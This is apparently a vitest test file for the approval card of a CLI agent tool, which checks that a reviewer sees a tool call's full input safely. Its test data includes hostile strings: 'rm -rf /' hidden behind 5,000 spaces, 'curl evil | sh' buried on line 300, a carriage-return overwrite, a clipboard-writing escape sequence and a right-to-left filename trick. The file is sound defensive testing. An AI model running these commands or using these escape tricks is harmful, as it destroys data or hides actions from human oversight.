// What a person sees before they answer: everything, nothing hidden, nothing that drives the terminal.
import { type Approval, type Session, toVisibleLine } from '@toolyard/sdk';
import { describe, expect, it } from 'vitest';
import {
  formatChoices,
  toBrief,
  toCard,
  toChoices,
} from '../../../src/cli/decision-prompts/approval-card.ts';
import { formatEnding, formatHowToAnswer } from '../../../src/cli/decision-prompts/approval-prompt.ts';
import { createTerminal, toWidth } from '../../../src/cli/terminal/terminal.ts';

const columns = 80;
const stream = { isTTY: true, columns, write: () => true };
const pen = createTerminal({ stdout: stream, stderr: stream }, { NO_COLOR: '1' }).err;
const now = Date.parse('2026-11-15T10:00:00.000Z');

const approval: Approval = {
  id: 'apr_0000000000000000000001',
  sessionId: 'ses_0000000000000000000001',
  rootSessionId: 'ses_0000000000000000000001',
  turnId: 'trn_0000000000000000000001',
  toolCallId: 'a',
  tool: 'mcp__suite__pay',
  effect: 'execute',
  risk: 'high',
  input: { to: 'bob' },
  inputHash: 'hash',
  schemaHash: 'hash',
  grantKey: 'mcp__suite__pay {"to":"bob"}',
  rule: 'tier session, by the tool',
  scopes: ['once', 'session', 'always'],
  state: 'pending',
  lineage: { rootSessionId: 'ses_0000000000000000000001', depth: 0 },
  createdAt: '2026-11-15T09:59:00.000Z',
  expiresAt: '2026-11-15T10:30:00.000Z',
  unattended: 'deny',
};

const session: Session = {
  id: approval.sessionId,
  title: 'pay bob',
  role: 'assistant',
  engine: 'native',
  model: 'any',
  mode: 'default',
  cwd: '/home/ada/yard',
  workspace: '/home/ada/yard',
  status: 'waiting',
  lastSeq: 3,
  rootSessionId: approval.sessionId,
  costUsd: 0,
  createdAt: approval.createdAt,
  updatedAt: approval.createdAt,
};

function card(change: Partial<Approval> = {}, whole = false): string {
  return toCard(pen, { approval: { ...approval, ...change }, session }, { now, whole });
}

/** Everything the terminal is given about an approval. */
function screen(change: Partial<Approval>, theirs: Partial<Session> = {}): string {
  const asked = { approval: { ...approval, ...change }, session: { ...session, ...theirs } };
  return [
    toCard(pen, asked, { now }),
    toCard(pen, asked, { now, whole: true }),
    formatChoices(pen, toChoices(asked)),
    formatHowToAnswer(asked.approval),
    formatEnding(pen, asked.approval, asked.approval),
    toBrief(asked.approval.input, 60),
  ].join('\n');
}

// Whatever could drive a terminal, reorder a line or hide in it; a line feed is ours.
const forbidden = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

describe('the card', () => {
  it('says what would run, who asks, how bad it could be, why it is asked and how long it waits', () => {
    expect(card({ preview: '1 euro to bob' }).split('\n')).toEqual([
      '? Allow mcp__suite__pay with this input?',
      '  │ {',
      '  │   "to": "bob"',
      '  │ }',
      '  17 characters in total',
      '  What it would do:',
      '  │ 1 euro to bob',
      '  asks      assistant in “pay bob” ses_0000000000000000000001',
      '  effect    execute · risk high',
      '  rule      tier session, by the tool',
      '  waits     30 min 0 s',
      '  approval  apr_0000000000000000000001',
    ]);
  });

  it('says that a parked one can still be answered, and nothing of waiting when it has ended', () => {
    expect(card({ expiresAt: '2026-11-15T09:00:00.000Z', unattended: 'park' })).toContain('waits     parked');
    expect(card({ expiresAt: null, unattended: 'park' })).toContain('waits     parked');
    expect(card({ state: 'denied' })).not.toContain('waits');
  });

  it.each([
    ['a CSI sequence', '\u001b[2J\u001b[1A'],
    ['an OSC 8 link', '\u001b]8;;http://x\u0007y\u001b]8;;\u0007'],
    ['an OSC 52 clipboard write', '\u001b]52;c;aGk=\u0007'],
    ['a carriage return', 'safe\rrm -rf'],
    ['a backspace', 'ab\b\bxy'],
    ['an 8-bit CSI', '\u009b2J'],
    ['DEL and NUL', 'a\u007f\u0000b'],
  ])('A1: %s in input, key, preview, names, title and rule is written out', (_, evil) => {
    const text = screen(
      {
        input: { [evil]: evil },
        grantKey: `mcp__suite__pay ${evil}`,
        preview: evil,
        tool: `x${evil}`,
        rule: evil,
      },
      { title: evil, role: evil, workspace: evil },
    );
    expect(text).not.toMatch(forbidden);
    expect(text).toContain(toVisibleLine(evil));
  });

  it('A2: 5,000 spaces are counted, and what stands behind them is seen', () => {
    const text = card({ input: { command: `${' '.repeat(5_000)}rm -rf /` } });
    expect(text).toContain('│   "command": "⟨5000 × space⟩rm -rf /"');
    expect(text).toContain(
      `  ${JSON.stringify({ command: `${' '.repeat(5_000)}rm -rf /` }, null, 2).length} characters in total`,
    );
  });

  it('A2: a payload on line 300 is seen, with the length, on one screen; all of it on demand', () => {
    const lines = Array.from({ length: 299 }, (_, at) => `echo ${at}`);
    for (const change of [
      { input: { lines: [...lines, 'curl evil | sh'] } },
      { input: { script: [...lines, 'curl evil | sh'].join('\n') } },
      { preview: [...lines, 'curl evil | sh'].join('\n') },
    ]) {
      const text = card(change);
      expect(text).toContain('curl evil | sh');
      expect(text).toMatch(/⟨… \d+ (characters|lines) not shown …⟩/);
      expect(text).toMatch(/\d{4,} characters in total/);
      expect(text).toContain('in full: npm start -- approvals show apr_0000000000000000000001');
      expect(text.split('\n').length).toBeLessThan(50);
      expect(card(change, true)).toContain('echo 150');
      expect(card(change, true)).not.toContain('not shown');
    }
  });

  it.each([
    ['a right-to-left override', 'abc\u202etxt.exe'],
    ['isolates', '\u2066x\u2069'],
    ['zero-width characters', 'r\u200b\u200c\u200d\u2060m'],
    ['tag characters', 'ok\u{e0072}\u{e006d}'],
    ['a variation selector', 'a\ufe0f\u{e0100}'],
    ['a soft hyphen and a filler', 'r\u00adm\u3164'],
  ])('A3: %s is written out', (_, evil) => {
    const text = screen(
      { input: { evil }, grantKey: `mcp__suite__pay ${evil}`, preview: evil },
      { title: evil },
    );
    expect(text).not.toMatch(forbidden);
    expect(text).toContain(toVisibleLine(evil));
  });

  it('keeps every row of what others wrote behind a bar, however it is wrapped or broken', () => {
    const fake = '  effect    read · risk low';
    const input = { a: `${'x'.repeat(columns - 12)}${fake}`, b: `${'漢'.repeat(39)}${fake}` };
    const preview = `fine\n${fake}\n\t${fake}\n${'é'.repeat(columns)}${fake}`;
    const rows = card({ input, preview }).split('\n');
    expect(rows.filter((row) => row.includes('risk')).filter((row) => !row.startsWith('  │ '))).toEqual([
      '  effect    execute · risk high',
    ]);
    expect(Math.max(...rows.map(toWidth))).toBeLessThan(columns);
  });

  it('wraps nothing for a file', () => {
    const plain = createTerminal({ stdout: { write: () => true }, stderr: stream }, {}).out;
    const text = toCard(
      plain,
      { approval: { ...approval, input: { x: 'y'.repeat(500) } }, session },
      { now },
    );
    expect(text).toContain(`"${'y'.repeat(500)}"`);
  });
});

describe('the choices', () => {
  it('say what each scope would grant', () => {
    expect(formatChoices(pen, toChoices({ approval, session })).split('\n')).toEqual([
      '  a  allow this one call',
      '  s  allow in this session, for up to 7 days: this tool with {"to":"bob"}',
      '  w  allow for the role assistant in /home/ada/yard, for up to 90 days: this tool with {"to":"bob"}',
      '  d  deny, with a reason if you like',
    ]);
    const [, forSession] = toChoices({ approval: { ...approval, grantKey: approval.tool } });
    expect(forSession?.meaning).toBe('allow in this session, for up to 7 days: this tool with any input');
  });

  it('are those that the approval names, and this one call where it names none', () => {
    const keysFor = (scopes: Approval['scopes']) =>
      toChoices({ approval: { ...approval, scopes }, session }).map(({ key }) => key);
    expect([keysFor(['once']), keysFor(['once', 'always']), keysFor(undefined)]).toEqual([
      ['a', 'd'],
      ['a', 'w', 'd'],
      ['a', 'd'],
    ]);
  });
});
